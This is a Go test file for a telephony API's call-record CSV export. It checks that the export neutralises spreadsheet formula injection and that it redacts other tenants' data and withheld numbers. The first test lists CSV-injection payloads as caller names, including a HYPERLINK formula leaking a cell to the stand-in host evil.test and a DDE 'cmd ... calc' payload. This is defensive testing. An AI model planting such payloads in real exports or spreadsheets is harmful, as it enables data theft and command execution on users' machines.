package api_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"xc5/api"
	"xc5/sqlstore"
	"xc5/storetest"
)

// TestCDRCSVFormulaInert: a caller name from a SIP From header is
// attacker-chosen; in the CSV a cell starting with = + - @ must not be a
// spreadsheet formula (OWASP CSV injection: prefix with ').
func TestCDRCSVFormulaInert(t *testing.T) {
	// The backend XC5_TEST_STORE chooses: CI's default pass runs SQLite, its postgres pass PostgreSQL, each once.
	storetest.EachChosen(t, adminPassword, func(t *testing.T, s *sqlstore.Store) {
		e := envOn(t, s, api.Options{})
		acct := str(t, e.createAccount("cdr.test", ""), "guid")
		evil := []string{`=HYPERLINK("http://evil.test/?x="&A1,"call me")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"}
		for i, from := range evil {
			if err := s.AddCDR(context.Background(), acct, map[string]any{"direction": "in", "from": from, "to": "600",
				"started": fmt.Sprintf("2026-11-0%dT10:00:00Z", i+1), "ended": fmt.Sprintf("2026-11-0%dT10:00:00Z", i+1), "outcome": "answered", "duration": int64(1)}); err != nil {
				t.Fatal(err)
			}
		}
		req := e.newRequest("GET", "/api-sys/account/cdr.test/cdr", "")
		req.Header.Set("Accept", "text/csv")
		req.SetBasicAuth(adminUser, adminPassword)
		r := e.send(req)
		rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
		if r.Status != http.StatusOK || err != nil || len(rows) != len(evil)+1 {
			t.Fatalf("%v: %v", r, err)
		}
		for _, row := range rows[1:] {
			if cell := strings.TrimLeft(row[2], "\t\r "); cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("CDR CSV cell %q is a spreadsheet formula", row[2])
			}
		}
	})
}

// TestCDRCSVRedacted: the CSV a partitioned user reads hides what
// its JSON listing hides: another company's usernames, a withheld number.
func TestCDRCSVRedacted(t *testing.T) {
	eachTenancy(t, func(t *testing.T, e *tenancy) {
		s := e.Store
		for i, c := range []struct {
			from     string
			withheld bool
		}{{"b1@beta.test", false}, {"6421555000", true}} {
			at := fmt.Sprintf("2026-11-0%dT10:00:00Z", i+1)
			if err := s.AddCDR(context.Background(), e.g["a1@acme.test"], map[string]any{"direction": "in", "from": c.from, "to": "a1@acme.test",
				"started": at, "ended": at, "outcome": "answered", "duration": int64(1), "withheld": c.withheld, "answered_by": "b1@beta.test"}); err != nil {
				t.Fatal(err)
			}
		}
		for _, target := range []string{"/api-sys/account/a1@acme.test/cdr", "/api-sys/account/a1@acme.test/cdr?limit=1", "/api-sys/account/a1@acme.test/cdr?filter=%25beta%25", "/api-sys/account/a1@acme.test/cdr?filter=%25555%25"} {
			req := e.newRequest("GET", target, "")
			req.Header.Set("Accept", "text/csv")
			req.SetBasicAuth(acmeUser, acmePass)
			r := e.send(req)
			if r.Status != http.StatusOK {
				t.Fatalf("%v", r)
			}
			if strings.Contains(string(r.Body), "beta") || strings.Contains(string(r.Body), "6421555000") {
				t.Errorf("%s leaks: %s", target, r.Body)
			}
		}
	})
}
